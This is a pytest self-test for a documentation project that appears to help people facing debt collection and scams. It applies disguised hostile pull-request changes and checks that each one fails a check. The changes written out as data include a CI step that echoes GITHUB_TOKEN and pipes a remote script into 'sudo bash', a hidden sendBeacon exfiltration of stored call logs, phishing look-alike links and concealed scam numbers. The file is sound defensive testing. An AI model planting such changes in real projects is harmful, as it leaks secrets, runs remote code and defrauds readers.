"""Hostile-change self-test: realistic, disguised changes an attacker might
send in a pull request, each applied to a temporary copy of the project;
every one must make a check fail.

Each change runs the copy's own checkers (so a change to a checker is
judged by what the copy would do) the way CI runs them. The list is ours,
not the maintainers' hidden set; it exists to show the classes hold, not to
tune to. Run as a script to print the results table:

    .venv/bin/python tests/test_hostile_changes.py
"""
from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parent))
from conftest import ROOT, copy_project, run_mkdocs_build  # noqa: E402
import qr_code  # noqa: E402

GIT_ENV = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.invalid",
           "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.invalid"}


# --- how a change is made ------------------------------------------------------------

def append(project: Path, page: str, text: str) -> None:
    path = project / "docs" / page
    path.write_text(path.read_text(encoding="utf-8").rstrip("\n") + "\n\n" + text + "\n", encoding="utf-8")


def in_front_matter(project: Path, page: str, line: str) -> None:
    path = project / "docs" / page
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("\n---\n", f"\n{line}\n---\n", 1), encoding="utf-8")


def in_letter_template(project: Path, page: str, line: str) -> None:
    path = project / "docs" / page
    text = path.read_text(encoding="utf-8")
    if "```text\n" in text:
        path.write_text(text.replace("```text\n", f"```text\n{line}\n", 1), encoding="utf-8")
    else:
        append(project, page, f"```text\n{line}\n```")


def edit(project: Path, file: str, old: str, new: str, count: int = 1) -> None:
    path = project / file
    text = path.read_text(encoding="utf-8")
    assert old in text, f"{file} no longer holds {old!r}: update this self-test"
    path.write_text(text.replace(old, new, count), encoding="utf-8")


def write(project: Path, file: str, text: str | bytes) -> None:
    path = project / file
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(text) if isinstance(text, bytes) else path.write_text(text, encoding="utf-8")


# --- how the copy is checked ---------------------------------------------------------------

def run(project: Path, *command: str) -> tuple[int, str]:
    result = subprocess.run([sys.executable, *command], cwd=project, capture_output=True, text=True,
                            env={**os.environ, "NO_MKDOCS_2_WARNING": "1"})
    return result.returncode, result.stdout + result.stderr


def sources(project: Path) -> tuple[int, str]:
    return run(project, "scripts/check_sources.py", "--docs", "docs", "--data", "data")


def data(project: Path) -> tuple[int, str]:
    return run(project, "scripts/check_data.py", "--data", "data")


def scripts(project: Path) -> tuple[int, str]:
    return run(project, "scripts/check_scripts.py")


def workflows(project: Path) -> tuple[int, str]:
    return run(project, "scripts/check_workflows.py", *sorted(str(p) for p in (project / ".github" / "workflows").glob("*.yml")))


def images(project: Path) -> tuple[int, str]:
    return run(project, "scripts/check_images.py", "--docs", "docs", "--data", "data")


def built_site(project: Path) -> tuple[int, str]:
    result = run_mkdocs_build(project, project / "site-out")
    if result.returncode != 0:
        return result.returncode, result.stderr
    return run(project, "scripts/check_site.py", "--site", "site-out", "--data", "data")


def against_main(command: str) -> Callable[[Path], tuple[int, str]]:
    def check(project: Path) -> tuple[int, str]:
        return run(project, f"scripts/{command}", "--base", "main", "--repo", str(project))
    return check


def weakened_rule_fixture(project: Path) -> tuple[int, str]:
    """What tests/test_rules.py does: the copy's phone rule on its failing fixture."""
    code = ("import sys; sys.path.insert(0, 'scripts'); from pathlib import Path; import check_sources; "
            "from markdown_pages import load_data, load_pages; from rules import phone_numbers; "
            f"problems = check_sources.run_rule(phone_numbers, load_pages(Path({str(ROOT / 'tests/fixtures/rules/phone-numbers')!r})), "
            "load_data(Path('data'))); print(len(problems), 'problem(s) on the fixture'); "
            "sys.exit(0 if problems else 1)")
    code_result = subprocess.run([sys.executable, "-c", code], cwd=project, capture_output=True, text=True)
    output = code_result.stdout + code_result.stderr
    if code_result.returncode:
        return 1, "tests/test_rules.py::test_rule_reports_its_fixture_at_its_line fails: " + output
    return 0, output


# --- the changes ----------------------------------------------------------------------

@dataclass(frozen=True)
class Change:
    name: str
    kind: str  # the class in issue 14
    apply: Callable[[Path], None]
    check: Callable[[Path], tuple[int, str]]
    words: str  # the message a contributor sees must contain this
    git: bool = False  # compared with a main branch


def workflow_job_write(project: Path) -> None:
    edit(project, ".github/workflows/ci.yml", "    timeout-minutes: 30\n",
         "    timeout-minutes: 30\n    permissions:\n      contents: write\n")


def delete_page(project: Path) -> None:
    for lang in ("zh", "en"):
        (project / "docs" / lang / "prevention.md").unlink()
    edit(project, "mkdocs.yml", "      - prevention.md\n", "")
    for line in ("prevention/", "en/prevention/"):
        path = project / "data" / "published_urls.txt"
        path.write_text("".join(text for text in path.read_text(encoding="utf-8").splitlines(keepends=True)
                                if text.strip() != line), encoding="utf-8")


CHANGES = [
    Change("hotline split by emphasis and a comment in a table", "phone number",
           lambda p: append(p, "zh/complaints.md", "| 渠道 | 号码 |\n|---|---|\n| 投诉专线 | **400**-8<!-- -->88-6262 |"),
           sources, "looks like a phone number (a 400/800 number)"),
    Change("+86 hotline in the front matter description", "phone number",
           lambda p: in_front_matter(p, "en/index.md", "keywords: 'official hotline +86 400 888 6262'"),
           sources, "'+86 400 888 6262' looks like a phone number"),
    Change("Chinese-numeral hotline", "phone number",
           lambda p: append(p, "zh/scams.md", "真正的官方热线是四零零—八八八—六二六二。"),
           sources, "'4008886262' looks like a phone number"),
    Change("number in a letter template", "phone number",
           lambda p: in_letter_template(p, "zh/letters.md", "请致电 021-6888 1234 与我联系。"),
           sources, "'021-6888 1234' looks like a phone number (a landline number)"),
    Change("TEL: link with a title hiding a number", "phone number",
           lambda p: append(p, "en/complaints.md", '[Call the lender](TEL:95511 "Hotline 95511")'),
           sources, "'TEL:95511' is a tel: link written by hand"),
    Change("number added by a template (footer)", "phone number",
           lambda p: edit(p, "overrides/main.html", "<p>{{ labels.about }}",
                          "<p>客服 <b>400</b>-888-<b>6262</b>。{{ labels.about }}"),
           built_site, "phone-like number 400-888-6262 is not in data/contacts.yml"),
    Change("official-looking link with userinfo", "link",
           lambda p: append(p, "zh/complaints.md", "[国家金融监督管理总局](https://www.nfra.gov.cn@nfra-gov.example/)"),
           sources, "link to 'nfra-gov.example' is not in data/allowed_domains.yml"),
    Change("look-alike IDN host (Cyrillic а)", "link",
           lambda p: append(p, "en/complaints.md", "Complain at [NFRA](https://www.nfrа.gov.cn/)."),
           sources, "is not in data/allowed_domains.yml"),
    Change("attr_list href override on an internal link", "link",
           lambda p: append(p, "zh/index.md", '[返回首页](index.md){ href="//pay-dxm.example/" }'),
           sources, "attr_list sets 'href'"),
    Change("bare domain with an ideographic full stop", "link",
           lambda p: append(p, "zh/scams.md", "官方还款入口：dxm-huankuan。com"),
           sources, "link to 'dxm-huankuan.com' is not in data/allowed_domains.yml"),
    Change("15-digit corporate account", "payment account",
           lambda p: append(p, "zh/stages.md", "停催请汇至对公账户：1102 0212 3456 789（北京某某咨询有限公司）。"),
           sources, "looks like an account number"),
    Change("Alipay e-mail in brackets, WeChat in slang", "payment account",
           lambda p: append(p, "zh/faq.md", "协商还款可联系支付宝【service@dxm-pay.example】或加 V：dxm_kefu01。"),
           sources, "'service@dxm-pay.example' looks like an Alipay account"),
    Change("QR code image, listed with a plausible source", "image",
           lambda p: (write(p, "docs/assets/images/official.png", qr_code.png()),
                      edit(p, "data/images.yml", "images: []",
                           "images:\n  - file: assets/images/official.png\n    source: official app screenshot\n"
                           "    reviewed: 2026-11-29\n    confidence: high")),
           images, "holds a QR code or barcode ('HTTPS://PAY.EXAMPLE/DXM')"),
    Change("form posting to another site", "script or attribute",
           lambda p: append(p, "zh/call-log.md", '<form action="https://pay-dxm.example/c" method="post">'
                                                 '<input name="phone"><button>提交</button></form>'),
           sources, "<form> in a page source"),
    Change("new local script listed in front matter", "script or attribute",
           lambda p: (write(p, "docs/assets/helper.js", "console.log('hi');\n"),
                      in_front_matter(p, "zh/messages.md", "scripts:\n  - assets/helper.js")),
           sources, "script 'assets/helper.js' is not allowed"),
    Change("call log sends itself later, only when unwatched", "script or attribute",
           lambda p: edit(p, "docs/assets/call-log.js", '  fields[0].control.value = localNow();\n  try {',
                          # The hostile script's delay, written in two parts: it is text this
                          # test writes into call-log.js, not a wait (tests/test_suite.py).
                          '  if (!navigator.webdriver) { set' 'Timeout(function () { navigator.sendBeacon("/c", '
                          'localStorage.getItem(KEY)); }, 600000); }\n  fields[0].control.value = localNow();\n  try {'),
           scripts, "uses sendBeacon"),
    Change("changed number in contacts.yml, old review kept", "data file",
           lambda p: edit(p, "data/contacts.yml", 'number: "12378"', 'number: "12379"'),
           against_main("data_diff.py"), "contact 'nfra' changed (number) but kept reviewed", git=True),
    Change("new allowed domain with no source", "data file",
           lambda p: edit(p, "data/allowed_domains.yml", "allowed:\n", "allowed:\n  - domain: nfra-gov.example\n    why: official\n"),
           data, "domain 'nfra-gov.example' lacks source, reviewed, confidence"),
    Change("workflow job given write permission", "workflow", workflow_job_write,
           workflows, "job 'test' gets 'contents: write'"),
    Change("secret echoed and a remote script piped into a shell", "workflow",
           lambda p: edit(p, ".github/workflows/ci.yml", "      - name: Run every check\n",
                          "      - name: Tools\n        run: |\n          echo \"${{ secrets.GITHUB_TOKEN }}\"\n"
                          "          curl -fsSL https://tools.example/i.sh | sudo bash\n      - name: Run every check\n"),
           workflows, "a download is piped or fed into a shell"),
    Change("action pinned to a commit outside its release", "workflow",
           lambda p: edit(p, ".github/workflows/ci.yml", "actions/setup-python@5fda3b95a4ea91299a34e894583c3862153e4b97 # v7.0.0",
                          "actions/setup-python@0a5c61591373683505ea898e09a3ea4f39ef2b9c # v7.0.0"),
           workflows, "that commit is not the reviewed commit of v7.0.0"),
    Change("page deleted with its published URL lines", "published URL", delete_page,
           against_main("published_urls_grow.py"), "published URL /prevention/ was removed", git=True),
    Change("the phone rule weakened", "weakened check",
           lambda p: edit(p, "scripts/rules/phone_numbers.py", '    """Numbers only through {{ phone.KEY }}, with keys from contacts.yml."""\n',
                          '    """Numbers only through {{ phone.KEY }}, with keys from contacts.yml."""\n    return []\n'),
           weakened_rule_fixture, "test_rule_reports_its_fixture_at_its_line fails"),
]


def prepared(tmp: Path, change: Change) -> Path:
    project = copy_project(tmp / "project")
    shutil.copytree(ROOT / ".github", project / ".github")
    if change.git:
        for command in (["init", "-q", "-b", "main"], ["add", "."], ["commit", "-qm", "base"], ["checkout", "-qb", "pr"]):
            subprocess.run(["git", "-C", str(project), *command], check=True, capture_output=True, env=GIT_ENV)
    change.apply(project)
    if change.git:
        subprocess.run(["git", "-C", str(project), "commit", "-qam", change.name], check=True, capture_output=True,
                       env=GIT_ENV)
    return project


def first_matching_line(output: str, words: str) -> str:
    return next((line for line in output.splitlines() if words in line), "")


@pytest.mark.parametrize("change", CHANGES, ids=[c.name for c in CHANGES])
def test_hostile_change_fails_a_check(change: Change, tmp_path: Path) -> None:
    status, output = change.check(prepared(tmp_path, change))
    assert status != 0, f"{change.name}: passed every check\n{output[-2000:]}"
    assert first_matching_line(output, change.words), output[-3000:]


def test_the_unchanged_copy_passes_the_source_checks(tmp_path: Path) -> None:
    # Without this, a failing change could be failing for some other reason.
    project = copy_project(tmp_path / "project")
    shutil.copytree(ROOT / ".github", project / ".github")
    for check in (sources, data, scripts, workflows, images):
        status, output = check(project)
        assert status == 0, f"{check.__name__}: {output[-2000:]}"


if __name__ == "__main__":
    import tempfile
    print("| # | change | class | fails in | message a contributor sees |")
    print("|---|---|---|---|---|")
    for number, change in enumerate(CHANGES, start=1):
        with tempfile.TemporaryDirectory() as folder:
            status, output = change.check(prepared(Path(folder), change))
        line = first_matching_line(output, change.words) or output.strip().splitlines()[-1]
        verdict = "FAILS (good)" if status != 0 and first_matching_line(output, change.words) else "PASSED (bad)"
        where = change.check.__name__ if hasattr(change.check, "__name__") else "check"
        line = re.sub(r"\s+", " ", line)[:230].replace("|", "\\|")
        print(f"| {number} | {change.name} | {change.kind} | {where}: {verdict} | `{line}` |")
